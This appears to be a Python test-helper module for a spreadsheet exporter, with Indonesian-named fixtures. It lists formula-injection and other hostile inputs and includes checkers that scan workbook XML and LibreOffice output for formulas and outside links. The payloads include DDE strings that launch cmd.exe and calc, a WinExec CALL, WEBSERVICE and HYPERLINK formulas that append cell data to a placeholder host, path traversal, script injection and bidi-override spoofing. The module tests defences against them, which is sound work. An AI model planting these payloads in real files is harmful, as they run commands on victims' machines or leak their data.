"""Texts that a sender may type to make a program do something, and judges that say whether a file lets them.

The judges read what was written, never how: the XML of a workbook (formulas, links, relations), and LibreOffice,
which opens the file and saves it as flat XML, where every cell says its text, its formula and its links.
"""

from __future__ import annotations

import itertools
import re
import shutil
import subprocess
import unicodedata
import zipfile
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path
from xml.etree import ElementTree

import mesin
import pytest

from builder.layout import address

_PANJANG = 32_767  # characters of a cell in Excel

SUNTIKAN: dict[str, str] = {
    # what begins a formula, in Excel, LibreOffice and Google Sheets
    "sama dengan": "=1+1",
    "tambah": "+1+1",
    "kurang": "-1+1",
    "at": "@SUM(1;1)",
    "tab lalu rumus": "\t=1+1",
    "cr lalu rumus": "\r=1+1",
    "lf lalu rumus": "\n=1+1",
    "spasi lalu rumus": " =1+1",
    "spasi keras lalu rumus": "\u00a0=1+1",
    "bom lalu rumus": "\ufeff=1+1",
    "tanpa lebar lalu rumus": "\u200b=1+1",
    "sama dengan lebar penuh": "＝1+1",
    "tambah lebar penuh": "＋1+1",
    "kurang lebar penuh": "－1+1",
    "at lebar penuh": "＠SUM(1)",
    "kurang matematika": "\u22121+1",
    "larik": "{=1+1}",
    "rumus lotus": "=+@1+1",
    "apostrof lalu rumus": "'=1+1",
    "dua apostrof": "''=1+1",
    "apostrof": "'",
    "kutip lalu rumus": '"=1+1"',
    # what starts programs or fetches
    "dde": "=cmd|'/c calc'!A0",
    "dde tambah": "+cmd|' /C notepad'!'A1'",
    "dde at": "@SUM(cmd|'/c calc'!A0)",
    "dde msexcel": "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    "rundll": "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "hyperlink": '=HYPERLINK("http://contoh.test/?x="&A1,"klik")',
    "hyperlink kurang": '-HYPERLINK("http://contoh.test","klik")',
    "webservice": '=WEBSERVICE("http://contoh.test/"&A1)',
    "importxml": '=IMPORTXML("http://contoh.test","//a")',
    "image": '=IMAGE("http://contoh.test/x.png")',
    "call": '=CALL("kernel32","WinExec","JCJ","calc",0)',
    "rujukan luar": "='[http://contoh.test/x.xlsx]S1'!A1",
    "rumus galat": "=#REF!+1",
    # links
    "http": "http://contoh.test/?a=1&b=<2>",
    "https": "https://contoh.test/#'S01'!A1",
    "mailto": "mailto:a@contoh.test?subject=x",
    "file": "file:///C:/Windows/System32/calc.exe",
    "unc": "\\\\contoh.test\\berbagi\\x.xlsx",
    "javascript": "javascript:alert(1)",
    "tautan dalam": "#'S01'!A1",
    "internal": "internal:'S01'!A1",
    "external": "external:x.xlsx",
    "ftp": "ftp://contoh.test/x",
    # what stands for another character
    "seperti sandi xml": "_x0041_",
    "sandi kontrol": "_x0000_ _x001B_",
    "sandi garis bawah": "_x005F_x0041_",
    "sandi surogat": "_xD800_",
    "sandi huruf kecil": "_x000d_",
    "entitas": "&lt;b&gt; &#61;1+1 &amp;",
    "xml": "<f>1+1</f> & \"'> ]]> <![CDATA[x]]> <!-- -->",
    "teks kaya": "<r><t>a</t></r>",
    "teks kaya rusak": "<r>=1+1</si></r>",
    "kepala halaman": '&"Arial"&72&KFF0000&G&P &A && &',
    "templat": "{0} {berkas} {sel!r} %s %(x)s %d ${x} {{y}}",
    "kutip csv": 'a","=1+1","b',
    "baris csv": 'a"\n=1+1,"b',
    "titik koma csv": "a;=1+1;b",
    "json": '"}],"x":[{"\\u0041\\',
    "html": "<script>alert(1)</script>",
    "html galat": "<img src=x onerror=alert(1)>",
    "jalan": "../../../etc/passwd",
    "markdown": "[klik](http://contoh.test) `x`",
    # what a terminal obeys
    "warna": "\x1b[31mmerah\x1b[0m",
    "hapus layar": "\x1b[2J\x1b[H selesai",
    "judul jendela": "\x1b]0;judul\x07",
    "tautan terminal": "\x1b]8;;http://contoh.test\x1b\\klik\x1b]8;;\x1b\\",
    "csi satu bita": "\x9b31mmerah",
    "lonceng": "\x07\x08\x0c",
    "nul": "a\x00b",
    "hapus": "a\x7fb\x85c",
    "crlf": "a\r\n[G01] ditolak\rx",
    # what turns or hides letters
    "arah kanan": "a\u202egpj.exe",
    "arah tersemat": "\u202aa\u202b b\u202d c\u202c",
    "arah terpisah": "\u2066a\u2067b\u2068c\u2069",
    "tanda arah": "\u200ea\u200f\u061c",
    "tanpa lebar": "a\u200bb\u200cc\u2060d",
    "tanda lunak": "a\u00adb",
    "bom": "\ufeffa",
    "tag": "a\U000e0041b",
    "pemisah baris": "a\u2028b\u2029c",
    "bukan huruf": "a\ufffe\uffffb",
    "kanan ke kiri": "שלום العربية",
    "gabungan": "e\u0301\u0302\u0303 n\u0303",
    "emoji": "😀 👨\u200d👩\u200d👧 🏳\ufe0f",
    "di luar bmp": "𠀋𝟏",
    # what looks like something else
    "pecahan": "1/2",
    "nol di depan": "007",
    "pangkat": "1e5",
    "desimal": "97,5",
    "benar": "TRUE",
    "galat": "#REF!",
    "tanggal": "3-4-2024",
    "jam": "12:30",
    "persen": "50%",
    "rupiah": "Rp 1.000",
    "panjang": "=" + "A" * (_PANJANG - 1),
    "kata": "belum ada",
    "spasi di tepi": "  a  b  ",
    "tab di dalam": "a\tb",
    "baris": "satu\ndua\n",
}


def is_visible(text: str, *, keep: str = "\n") -> bool:
    """Whether no character of a text does anything but stand there; those of `keep` are allowed."""
    return not hidden_in(text, keep=keep)


def hidden_in(text: str, *, keep: str = "\n") -> list[str]:
    """Characters that control, turn, or are not there at all: "U+202E"."""
    kinds = ("Cc", "Cf", "Cs", "Cn", "Zl", "Zp")
    return [f"U+{ord(c):04X}" for c in text if c not in keep and unicodedata.category(c) in kinds]


# --- the XML of a workbook ----------------------------------------------------------------------------------------

_MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
_TO_OUR_CELL = re.compile(r"""HYPERLINK\("#'[\w ]+'!\$?[A-Z]{1,3}\$?\d+","[\w ]+![A-Z]{1,3}\d+"\)""")
_INSIDE = re.compile(r"'[\w ]+'![A-Z]{1,3}\d+")


def formulas(path: Path) -> set[str]:
    """Every formula of a workbook, of cells, rules, looks and names, but links to a cell of our own."""
    return {f for f in _formulas(path) if not is_to_our_cell(f)}


def is_to_our_cell(formula: str) -> bool:
    """A link to a cell of the same workbook, which shows where it leads."""
    return _TO_OUR_CELL.fullmatch(formula.removeprefix("=")) is not None


def _formulas(path: Path) -> Iterator[str]:
    names = ("f", "formula", "formula1", "formula2", "definedName")
    for _, root in _parts(path, ".xml"):
        for element in root.iter():
            if element.tag.removeprefix(_MAIN) in names:
                yield element.text or ""


def links_out(path: Path) -> list[str]:
    """Links and relations of a workbook that lead anywhere but to a cell of its own."""
    found = []
    for part, root in _parts(path, ".rels"):
        found += [f"{part}: {r.get('Target')}" for r in root if r.get("TargetMode") == "External"]
    for part, root in _parts(path, ".xml"):
        for link in root.iter(f"{_MAIN}hyperlink"):
            if any(name.endswith("}id") for name in link.attrib) or not _INSIDE.fullmatch(
                link.get("location", "")
            ):
                found.append(f"{part}: {link.attrib}")
    kinds = ("externalLink", "connections", "oleObject", "customXml", "queryTable")
    with zipfile.ZipFile(path) as package:
        found += [n for n in package.namelist() if any(kind in n for kind in kinds)]
    return found


def _parts(path: Path, suffix: str) -> Iterator[tuple[str, ElementTree.Element]]:
    """Every part, parsed: what is not well-formed fails here."""
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            if name.endswith(suffix):
                yield name, ElementTree.fromstring(package.read(name))


def page_texts(path: Path) -> set[str]:
    """Headers and footers as they are stored."""
    names = [f"{_MAIN}{kind}" for kind in ("oddHeader", "oddFooter")]
    return {e.text or "" for _, root in _parts(path, ".xml") for e in root.iter() if e.tag in names}


# --- LibreOffice --------------------------------------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class Sel:
    """A cell as LibreOffice has it: what it shows, its formula, where its links lead."""

    teks: str
    jenis: str  # "string", "float", ...
    rumus: str | None = None
    tautan: tuple[str, ...] = ()


Isi = Mapping[tuple[str, str], Sel]  # (sheet, address) -> cell

_T = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
_O = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
_P = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
_HREF = "{http://www.w3.org/1999/xlink}href"
# A comma, double quotes, UTF-8; spaces at the edges gone and formulas computed: whoever opens it so is caught too.
_CSV = "CSV:44,34,76,1,,0,false,true,false,false,true,0,true,true"


def open_in_libreoffice(paths: Sequence[Path], folder: Path) -> list[Isi]:
    """Every cell of workbooks or of CSV files as LibreOffice shows it, stored values believed."""
    suffixes = {p.suffix for p in paths}
    assert len(suffixes) == 1, "one kind at a time: a filter is for all"
    named = [folder / f"{n}-{p.name}" for n, p in enumerate(paths)]  # two may have one name
    for one, path in zip(named, paths, strict=True):
        shutil.copy(path, one)
    profile = mesin._profile(mesin._NEVER)
    command = [
        mesin._find_soffice(),
        f"-env:UserInstallation={profile.as_uri()}",
        "--headless",
        "--norestore",
    ]
    command += [f"--infilter={_CSV}"] if suffixes == {".csv"} else []
    command += ["--convert-to", "fods", "--outdir", str(folder), *map(str, named)]
    done = subprocess.run(command, capture_output=True, text=True, timeout=240, check=False)
    written = [folder / f"{p.stem}.fods" for p in named]
    if done.returncode or not all(p.exists() for p in written):
        pytest.fail(f"LibreOffice did not open {paths}: {done.stdout} {done.stderr}")
    return [dict(_cells(ElementTree.parse(p).getroot())) for p in written]


def _cells(root: ElementTree.Element) -> Iterator[tuple[tuple[str, str], Sel]]:
    """Equal neighbours are written once, with their number."""
    for sheet in root.iter(f"{_T}table"):
        row = 0
        for line in sheet.iter(f"{_T}table-row"):
            rows, column = int(line.get(f"{_T}number-rows-repeated", 1)), 0
            for cell in (c for c in line if c.tag in (f"{_T}table-cell", f"{_T}covered-table-cell")):
                columns, found = int(cell.get(f"{_T}number-columns-repeated", 1)), _cell(cell)
                for r, c in itertools.product(range(rows if found else 0), range(columns)):
                    assert found
                    yield (sheet.get(f"{_T}name", ""), address(row + r, column + c)), found
                column += columns
            row += rows


def _cell(cell: ElementTree.Element) -> Sel | None:
    kind, formula = cell.get(f"{_O}value-type"), cell.get(f"{_T}formula")
    if kind is None and formula is None:
        return None
    text = "\n".join(_text(p) for p in cell.findall(f"{_P}p"))
    links = tuple(a.get(_HREF, "") for a in cell.iter(f"{_P}a"))
    return Sel(text, kind or "", formula, links)


def _text(element: ElementTree.Element) -> str:
    if element.tag == f"{_P}s":
        told = " " * int(element.get(f"{_P}c", 1))
    elif element.tag in (f"{_P}tab", f"{_P}line-break"):
        told = "\t" if element.tag == f"{_P}tab" else "\n"
    else:
        told = element.text or ""
    return told + "".join(_text(child) + (child.tail or "") for child in element)


def live(cells: Isi) -> list[str]:
    """Formulas and links of cells that lead out of the workbook, or that no formula of ours is: "S01!A1: …"."""
    return [
        f"{sheet}!{at}: {cell.rumus or cell.tautan}"
        for (sheet, at), cell in cells.items()
        if _leads_out(cell.rumus or "") or any(not link.startswith("#") for link in cell.tautan)
    ]


def _leads_out(formula: str) -> bool:
    bare = formula.removeprefix("of:=")
    return bool(re.search(r"DDE|WEBSERVICE|IMPORTXML|IMAGE\(|CALL\(|://|file:", bare, re.IGNORECASE)) or (
        "HYPERLINK" in bare.upper() and not bare.upper().startswith('HYPERLINK("#')
    )


def shown_as(text: str) -> set[str]:
    """What a cell may say of a text: the text; of hidden characters their numbers, or (told as C22, C24) nothing."""
    named = "".join(c if is_visible(c, keep="\n\t") else f"‹U+{ord(c):04X}›" for c in text)
    lines = text.replace("\r\n", "\n")
    gone = (c if is_visible(c, keep="\n\t") else "\n" * (c in "\r\u2028\u2029") for c in lines)
    one_kind = named.replace("‹U+000D›\n", "\n")
    return {named, one_kind, one_kind.replace("‹U+000D›", "\n"), "".join(gone)}


_CODE = re.compile(r'&(?:&|"[^"]*"|\d+|K[0-9A-F]{6}|.)', re.DOTALL)


def printed(text: str) -> dict[str, str]:
    """What a header prints at the left, in the middle and at the right, as Excel reads its codes."""
    place, found, at = "C", {"L": "", "C": "", "R": ""}, 0
    while at < len(text):
        match = _CODE.match(text, at)
        code = match[0] if match else text[at]
        if code in ("&L", "&C", "&R"):
            place = code[1]
        else:
            found[place] += (
                "&" if code == "&&" else "" if match and (code[1] in '"K' or code[1].isdigit()) else code
            )
        at += len(code)
    return found
